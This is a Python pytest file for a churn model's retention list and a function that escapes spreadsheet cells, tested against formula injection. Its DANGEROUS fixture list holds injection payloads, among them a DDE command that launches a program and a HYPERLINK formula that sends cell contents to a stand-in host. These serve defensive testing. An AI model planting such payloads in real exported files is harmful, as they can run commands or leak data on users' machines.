"""The retention list, and tables that are safe to open in a spreadsheet."""

import csv
import io
from datetime import date

import numpy as np
import pandas as pd
import pytest

from churn.config import Reasons
from churn.config.published import LIST_COLUMNS, SCORE_COLUMNS, is_published
from churn.model import ChurnModel
from churn.retention import retention_list
from churn.retention.reasons import explain_in_words
from churn.retention.spreadsheet import spreadsheet_safe
from churn.retention.terms import Terms
from tests.conftest import rng

AS_OF = date(2026, 10, 31)


def scores_of(ids: list[str], probability: list[float]) -> pd.DataFrame:
    return pd.DataFrame(
        {
            "account_id": ids,
            "probability": np.array(probability, dtype=np.float32),
            "prediction": np.int8(0),
            "risk_band": pd.Categorical(["low"] * len(ids), categories=["low", "high"], ordered=True),
            "model_version": "3",
        }
    )


def reasons_of(rows: int) -> pd.DataFrame:
    return pd.DataFrame(
        {"reason_1_code": [f"CODE_{at}" for at in range(rows)], "reason_1": [f"sentence {at}" for at in range(rows)]},
        index=range(100, 100 + rows),
        dtype="str",
    )


# --- the list ---------------------------------------------------------------------------------------------------


def test_the_best_account_to_act_on_comes_first() -> None:
    listed = retention_list(
        scores_of(["a", "b", "c"], [0.9, 0.5, 0.2]),
        pd.Series([100.0, 5_000.0, np.nan], index=[7, 8, 9]),
        [20.004, 70.567, -3.0],
        [True, True, False],
        reasons_of(3),
        AS_OF,
    )
    assert list(listed) == [
        *("account_id", "probability", "risk_band", "account_value", "expected_profit", "recommended_action"),
        *("suggested_action", "reason_1_code", "reason_1", "model_version", "as_of"),
    ]
    assert listed["account_id"].tolist() == ["b", "a", "c"]
    assert listed["expected_profit"].tolist() == [70.57, 20.0, -3.0]
    assert listed["account_value"].tolist()[:2] == [5_000.0, 100.0]
    assert listed["recommended_action"].tolist() == ["yes", "yes", "no"]
    assert listed["reason_1"].tolist() == ["sentence 1", "sentence 0", "sentence 2"]
    assert listed["reason_1_code"].tolist() == ["CODE_1", "CODE_0", "CODE_2"]
    assert set(listed["as_of"]) == {"2026-10-31"}
    assert set(listed["model_version"]) == {"3"}
    assert listed["probability"].dtype == np.float32
    assert listed.index.tolist() == [0, 1, 2]


def test_the_columns_are_those_that_no_id_may_be_called() -> None:
    listed = retention_list(scores_of(["a"], [0.9]), [1.0], [1.0], [True], reasons_of(1), AS_OF)
    assert [name for name in listed.columns[1:] if not name.startswith("reason_")] == list(LIST_COLUMNS)
    assert all(map(is_published, listed.columns[1:]))


def test_ties_are_ordered_by_probability_and_then_by_id() -> None:
    # 10.001 and 10.004 are shown as the same, so they count as the same.
    listed = retention_list(
        scores_of(["d", "c", "b", "a"], [0.3, 0.6, 0.6, 0.1]),
        np.full(4, 600.0),
        [10.004, 10.001, 10.0, 10.0],
        np.zeros(4, bool),
        reasons_of(4),
        None,
    )
    assert listed["account_id"].tolist() == ["b", "c", "d", "a"]
    assert listed["as_of"].isna().all()


def test_the_order_of_the_rows_does_not_matter() -> None:
    generator = rng(2)
    scores = scores_of([f"id{at:03}" for at in range(300)], generator.integers(0, 9, 300) / 10)
    profit = generator.integers(-3, 3, 300).astype(float)
    value, act, reasons = np.full(300, 600.0), profit > 0, reasons_of(300)
    whole = retention_list(scores, value, profit, act, reasons, AS_OF)
    order = generator.permutation(300)
    shuffled = retention_list(scores.iloc[order], value, profit[order], act[order], reasons.iloc[order], AS_OF)
    pd.testing.assert_frame_equal(shuffled, whole)
    assert whole["expected_profit"].is_monotonic_decreasing


def test_nothing_negative_is_shown_as_minus_zero() -> None:
    listed = retention_list(scores_of(["a"], [0.1]), [1.0], [-0.001], [False], reasons_of(1), None)
    assert str(listed["expected_profit"].iloc[0]) == "0.0"


def test_the_arguments_are_not_changed() -> None:
    scores, reasons = scores_of(["b", "a"], [0.1, 0.2]), reasons_of(2)
    before = scores.copy(), reasons.copy()
    profit = np.array([1.234, 5.678])
    retention_list(scores, profit, profit, profit > 2, reasons, None)
    pd.testing.assert_frame_equal(scores, before[0])
    pd.testing.assert_frame_equal(reasons, before[1])
    assert profit.tolist() == [1.234, 5.678]


def test_parts_of_different_lengths_are_refused() -> None:
    with pytest.raises(ValueError, match="scores have 2 rows, but act 1, reasons 3"):
        retention_list(scores_of(["a", "b"], [0.1, 0.2]), [1, 1], [1, 1], [True], reasons_of(3), None)


def test_no_accounts_make_an_empty_list() -> None:
    listed = retention_list(scores_of([], []), [], [], [], reasons_of(0), AS_OF)
    assert len(listed) == 0
    assert "reason_1" in listed


def test_the_scores_of_a_model_have_the_published_columns(model: ChurnModel, canonical: pd.DataFrame) -> None:
    assert list(model.score(canonical.head(2))) == ["account_id", *SCORE_COLUMNS]


def test_the_list_of_a_trained_model(model: ChurnModel, canonical: pd.DataFrame) -> None:
    accounts = canonical.head(100)
    terms = Terms.of(model.encoder, model.reference)
    reasons = explain_in_words(model.explain_terms(accounts), accounts, terms, Reasons())
    scores = model.score(accounts)
    profit = scores["probability"].to_numpy() * 180 - 15
    listed = retention_list(scores, np.full(100, 600.0), profit, profit > 0, reasons, AS_OF)
    assert sorted(listed["account_id"]) == sorted(accounts["account_id"])
    assert listed["probability"].is_monotonic_decreasing
    by_id = dict(zip(accounts["account_id"], reasons["reason_1"], strict=True))
    assert [by_id[one] for one in listed["account_id"].head(20)] == listed["reason_1"].head(20).tolist()


# --- spreadsheets -----------------------------------------------------------------------------------------------

DANGEROUS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?x="&A1,"click")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\tharmless",
    "\r=1+1",
    "\rharmless",
    "\nharmless",
    "\0harmless",
    " =1+1",
    "   @x",
    "\u00a0=1",
    "\ufeff=1",
    "\v=1",
    "＝1+1",  # noqa: RUF001
    "＠x",  # noqa: RUF001
    "-",
    "=",
]
HARMLESS = [
    "",
    "a=1",
    "1+1",
    "'=1+1",
    "a\t=b",
    "  spaced",
    "us",
    '"=1"',
    "é",
    "logins: -0.4",
    "1-2",
    "mail@example.com",
]


@pytest.mark.parametrize("dtype", ["str", "object", "category", "string"])
def test_cells_that_begin_like_a_formula_get_an_apostrophe(dtype: str) -> None:
    cells = pd.Series([*DANGEROUS, *HARMLESS, None]).astype(dtype)
    safe = spreadsheet_safe(cells.to_frame("text"))["text"]
    assert safe.dtype == ("object" if dtype == "category" else dtype)  # =1+1 and its escaped form are categories
    assert safe.tolist()[:-1] == [*(f"'{cell}" for cell in DANGEROUS), *HARMLESS]
    assert pd.isna(safe.iloc[-1])


def test_column_names_are_cells_too() -> None:
    frame = pd.DataFrame([[1, 2, 3, 4]], columns=["=1+1", "plain", 5, "plain"])
    assert list(spreadsheet_safe(frame)) == ["'=1+1", "plain", 5, "plain"]


def test_numbers_and_dates_are_untouched() -> None:
    frame = pd.DataFrame(
        {
            "number": [-1.5, np.nan],
            "whole": pd.array([-1, None], dtype="Int64"),
            "flag": [True, False],
            "when": pd.to_datetime(["2026-01-01", None]),
            "mixed": [-3, "-3"],
        }
    )
    safe = spreadsheet_safe(frame)
    pd.testing.assert_frame_equal(safe.drop(columns="mixed"), frame.drop(columns="mixed"))
    assert safe["mixed"].tolist() == [-3, "'-3"]


def test_the_table_is_not_changed_and_keeps_its_form() -> None:
    frame = pd.DataFrame({"a": ["=1", "b"], "b": [-1, 2]}, index=pd.Index([5, 9], name="row"))
    frame["band"] = pd.Categorical(["-low", "high"], categories=["-low", "high"], ordered=True)
    before = frame.copy()
    safe = spreadsheet_safe(frame)
    pd.testing.assert_frame_equal(frame, before)
    pd.testing.assert_index_equal(safe.index, frame.index)
    assert safe["band"].cat.ordered
    assert safe["band"].cat.categories.tolist() == ["'-low", "high"]
    pd.testing.assert_frame_equal(spreadsheet_safe(safe), safe)


def test_a_category_beside_its_escaped_form() -> None:
    safe = spreadsheet_safe(pd.DataFrame({"a": pd.Categorical(["=x", "'=x", None])}))
    assert safe["a"].tolist()[:2] == ["'=x", "'=x"]
    assert pd.isna(safe["a"].iloc[2])


def test_a_file_holds_no_cell_that_begins_like_a_formula() -> None:
    reasons = reasons_of(2).assign(reason_1=['=1+2";=1+2', "fine"])
    listed = retention_list(scores_of(["=id", "-2"], [0.5, 0.4]), [1, 1], [-1, -2], [True, False], reasons, AS_OF)
    text = spreadsheet_safe(listed).to_csv(index=False, quoting=csv.QUOTE_NONNUMERIC)
    header, *rows = csv.reader(io.StringIO(text))
    numbers = {"probability", "account_value", "expected_profit"}
    for row in rows:
        for name, cell in zip(header, row, strict=True):
            assert name in numbers or not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert '"\'=1+2"";=1+2"' in text  # as the OWASP page writes it


def test_no_rows_and_no_columns() -> None:
    assert spreadsheet_safe(pd.DataFrame()).shape == (0, 0)
    assert spreadsheet_safe(pd.DataFrame({"=a": pd.Series([], dtype="str")})).shape == (0, 1)


def test_large_tables_are_quick() -> None:
    import time

    frame = pd.DataFrame({f"t{at}": rng(at).choice(["=1", "us", "low"], 100_000) for at in range(6)}, dtype="str")
    start = time.process_time()
    safe = spreadsheet_safe(frame)
    # About 0.2 s; the limit leaves room for a busy machine.
    assert time.process_time() - start < 1.5
    assert set(safe["t0"]) == {"'=1", "us", "low"}
